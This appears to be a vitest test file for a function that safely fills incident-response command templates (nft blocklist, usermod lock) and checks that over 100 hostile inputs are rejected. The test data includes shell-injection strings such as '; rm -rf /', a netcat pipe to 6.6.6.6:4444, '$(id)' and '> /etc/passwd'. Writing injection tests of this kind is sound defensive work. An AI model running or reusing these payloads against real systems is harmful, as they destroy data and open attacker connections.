import { describe, expect, it } from 'vitest';
import { placeholdersOf, renderArgv } from '../../src/actions/render-argv.js';
import type { FieldType } from '../../src/core/types.js';

const TYPES: Record<string, FieldType> = { ip: 'ip', user: 'user', host: 'host', port: 'port', note: 'text' };
const BLOCK = ['/usr/sbin/nft', 'add', 'element', 'inet', 'filter', 'blocklist', '{ {ip} }'];

// What an attacker can put into a capture by writing it into a log line.
const SHELL = [
  '; rm -rf /',
  '$(id)',
  '`id`',
  '| nc 6.6.6.6 4444',
  '&& reboot',
  '> /etc/passwd',
  "' OR 1=1",
  '"; id; "',
];
const OPTIONS = ['-rf', '--help', '-o/tmp/x', '--exec=/bin/sh', '-', '--'];
const WHITESPACE = ['1.2.3.4 5.6.7.8', '1.2.3.4\n5.6.7.8', '1.2.3.4\t-j ACCEPT', ' 1.2.3.4', '1.2.3.4 ', '\r1.2.3.4'];
const LOOKALIKES = ['１.２.３.４', '1.2.3.4\u200b', '1․2․3․4', 'ｒｏｏｔ', 'rооt', '1.2.3.4\u202e', '\u00001.2.3.4'];
const MALFORMED = [
  '999.1.1.1',
  '1.2.3',
  '1.2.3.4.5',
  '1.2.3.4/33',
  '::g',
  '2001:db8::1::1',
  '',
  ' ',
  '0x7f.1',
  'localhost:22',
];
const LONG = ['1'.repeat(100_000), `${'a'.repeat(33)}`, `${'a.'.repeat(200)}com`, `1.2.3.4${' '.repeat(5000)}`];
const ENCODED = ['%3Bid', '1.2.3.4%0a', '\\x3bid', '&#59;id', '${IFS}id', '$IFS', '~root', '*', '?', '[a-z]', '{a,b}'];
// Each alone, and glued to a real address (the empty string would glue into the address itself: left out).
const HOSTILE = [
  ...new Set(
    [...SHELL, ...OPTIONS, ...WHITESPACE, ...LOOKALIKES, ...MALFORMED, ...LONG, ...ENCODED].flatMap((v) => [
      v,
      `203.0.113.7${v}`,
      `${v}203.0.113.7`,
    ]),
  ),
].filter((v) => v !== '203.0.113.7');

describe('renderArgv', () => {
  it('fills placeholders from typed captures, each value one whole argv element', () => {
    expect(renderArgv(BLOCK, { ip: '203.0.113.7' }, TYPES)).toEqual({
      ok: true,
      argv: ['/usr/sbin/nft', 'add', 'element', 'inet', 'filter', 'blocklist', '{ 203.0.113.7 }'],
    });
    expect(renderArgv(['/usr/sbin/usermod', '-L', '{user}'], { user: 'mallory' }, TYPES)).toEqual({
      ok: true,
      argv: ['/usr/sbin/usermod', '-L', 'mallory'],
    });
  });

  it(`has a hostile corpus of at least 100 captures (${HOSTILE.length})`, () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(100);
  });

  it.each(HOSTILE.map((value) => ({ value, shown: JSON.stringify(value).slice(0, 40) })))(
    'refuses $shown as an ip; as a user, refuses it or passes it only as a plain name',
    ({ value }) => {
      expect(renderArgv(BLOCK, { ip: value }, TYPES)).toMatchObject({ ok: false });
      const asUser = renderArgv(['/usr/sbin/usermod', '-L', '{user}'], { user: value }, TYPES);
      if (asUser.ok) {
        // Nothing a shell, a glob or an option parser would act on: letters, digits, . _ - and no leading "-".
        expect(asUser.argv[2]).toMatch(/^[A-Za-z0-9_][A-Za-z0-9_.-]{0,31}$/);
      }
    },
  );

  it('never puts free text into a command, nor a capture the incident lacks', () => {
    expect(renderArgv(['/bin/echo', '{note}'], { note: 'hello' }, TYPES)).toEqual({
      ok: false,
      reason: 'note is free text (type text), which never goes into a command',
    });
    expect(renderArgv(['/bin/echo', '{host}'], {}, TYPES)).toEqual({ ok: false, reason: 'the incident has no host' });
  });

  it('names the placeholders of a template', () => {
    expect(placeholdersOf(['/x', '{ip}', '--port={port}', '{ip}'])).toEqual(['ip', 'port']);
  });
});
